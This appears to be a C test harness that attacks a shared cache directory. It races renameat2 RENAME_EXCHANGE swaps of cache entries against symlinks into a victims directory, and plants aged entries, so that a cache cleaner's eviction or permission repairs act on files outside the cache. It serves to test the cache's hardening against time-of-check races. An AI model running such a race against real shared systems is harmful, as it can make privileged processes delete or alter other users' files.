// A member of the group that attacks its cache, without pause until SIGINT or for SECONDS at most.
//
//     attacker CACHE STASH VICTIMS SECONDS
//
// Exchanges CACHE/ab with a link to VICTIMS/ab, CACHE/cd/NAME with a link to VICTIMS/file, and another file with a
// directory; makes old, closed entries again where they went. Prints how many exchanges succeeded.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { entries = 8, turns_between_repairs = 64 };

static volatile sig_atomic_t over;
static void end(int signal) { (void)signal, over = 1; }

// A file that is old enough for eviction and too closed for the policy, though no secret: those stay closed.
static void make_entry(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_NOFOLLOW, 0600);
    if (fd < 0) return;
    if (write(fd, "attack\n", 7) < 0) perror(path);
    const time_t now = time(NULL);
    const struct timespec times[2] = {{.tv_sec = now - 48 * 3600}, {.tv_sec = now - 48 * 3600}};
    fchmod(fd, 0644);
    futimens(fd, times);
    close(fd);
}

static void make_link(const char *path, const char *target) {
    unlink(path);
    if (symlink(target, path) < 0 && errno != EEXIST && errno != EISDIR) perror(path);
}

static int is_link(const char *path) {
    struct stat status;
    return lstat(path, &status) == 0 && S_ISLNK(status.st_mode);
}

static int exists(const char *path) {
    struct stat status;
    return lstat(path, &status) == 0;
}

int main(int count, char **arguments) {
    if (count != 5) return 64;
    const char *cache = arguments[1], *stash = arguments[2], *victims = arguments[3];
    char shard[512], shard_link[512], file[512], file_link[512], kind[512], kind_other[512], path[640];
    char shard_target[512], file_target[512];
    snprintf(shard, sizeof shard, "%s/ab", cache);
    snprintf(shard_link, sizeof shard_link, "%s/ab", stash);
    snprintf(shard_target, sizeof shard_target, "%s/ab", victims);
    snprintf(file, sizeof file, "%s/cd/cd%062d-d", cache, 0);
    snprintf(file_link, sizeof file_link, "%s/file", stash);
    snprintf(file_target, sizeof file_target, "%s/file", victims);
    snprintf(kind, sizeof kind, "%s/cd/cd%062d-d", cache, 1);
    snprintf(kind_other, sizeof kind_other, "%s/directory", stash);
    signal(SIGINT, end);
    signal(SIGALRM, end);
    alarm((unsigned)atoi(arguments[4]));

    long exchanges = 0;
    for (long turn = 0; !over; turn++) {
        if (turn % turns_between_repairs == 0) {
            mkdir(shard, 0700);
            if (!is_link(shard) && !is_link(shard_link)) make_link(shard_link, shard_target);
            snprintf(path, sizeof path, "%s/cd", cache);
            mkdir(path, 0700);
            if (!exists(file)) make_entry(file);
            if (!is_link(file) && !is_link(file_link)) make_link(file_link, file_target);
            if (!exists(kind)) make_entry(kind);
            mkdir(kind_other, 0700);
            for (int index = 0; index < entries; index++) {
                snprintf(path, sizeof path, "%s/ab%062d-d", is_link(shard) ? shard_link : shard, index);
                make_entry(path);
                snprintf(path, sizeof path, "%s/cd/cd%062d-d", cache, index + 2);
                make_entry(path);
            }
            // Drift: members own what they made and close it again.
            chmod(is_link(shard) ? shard_link : shard, 0700);
        }
        exchanges += renameat2(AT_FDCWD, shard, AT_FDCWD, shard_link, RENAME_EXCHANGE) == 0;
        exchanges += renameat2(AT_FDCWD, file, AT_FDCWD, file_link, RENAME_EXCHANGE) == 0;
        exchanges += renameat2(AT_FDCWD, kind, AT_FDCWD, kind_other, RENAME_EXCHANGE) == 0;
    }
    printf("%ld\n", exchanges);
    return 0;
}
